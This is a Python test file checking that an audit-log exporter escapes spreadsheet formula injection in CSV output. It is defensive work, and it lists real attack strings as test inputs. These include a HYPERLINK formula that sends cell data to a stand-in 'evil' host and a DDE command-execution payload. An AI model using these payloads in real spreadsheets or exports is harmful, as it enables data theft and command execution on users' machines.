"""Exports of the audit log: complete, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amberbox.core.safe_text import spreadsheet_safe
from amberbox.server.audit import (
    COLUMNS,
    START,
    AuditEntry,
    AuditLogRow,
    chain_hash,
    csv_lines,
    json_lines,
    row_after,
)

ROW = row_after(
    0, START, 1_700_000_000_123_456_789, AuditEntry("user:anna", "::1", "own.read", "x")
)


def test_json_lines_hold_all_that_the_hash_covers() -> None:
    record = json.loads("".join(json_lines([ROW])))
    assert record["time"] == "2023-11-14T22:13:20.123456789Z"
    again = AuditLogRow(
        record["seq"],
        int(record["time_ns"]),
        record["principal"],
        record["address"],
        record["action"],
        record["object"],
        record["result"],
        json.dumps(record["details"], sort_keys=True),
        "",
    )
    assert chain_hash(START, again) == record["hash"]


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "|calc",
        "%0A=1",
        "＝1+1",  # noqa: RUF001 -- the attack is that it looks the same
    ],
)
def test_no_cell_is_a_formula(attack: str) -> None:
    row = row_after(
        0, START, 1, AuditEntry(attack, attack, attack, attack, "refused", {"why": attack})
    )
    header, cells = csv.reader(io.StringIO("".join(csv_lines([row])), newline=""))
    assert tuple(header) == COLUMNS
    assert [cells[n] for n in range(2, 6)] == [f"'{attack}"] * 4
    assert cells[7].startswith("{")


@given(st.text())
def test_every_text_comes_back_and_none_starts_a_formula(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe in (text, f"'{text}")
    assert not safe.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%"))


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_csv_holds_every_text_in_its_cell(text: str) -> None:
    row = row_after(0, START, 1, AuditEntry("user:anna", "", "own.read", text))
    written = "".join(csv_lines([row, row]))
    lines = list(csv.reader(io.StringIO(written, newline="")))
    assert len(lines) == 3
    assert lines[1] == lines[2]
    assert lines[1][5] == spreadsheet_safe(row.object)
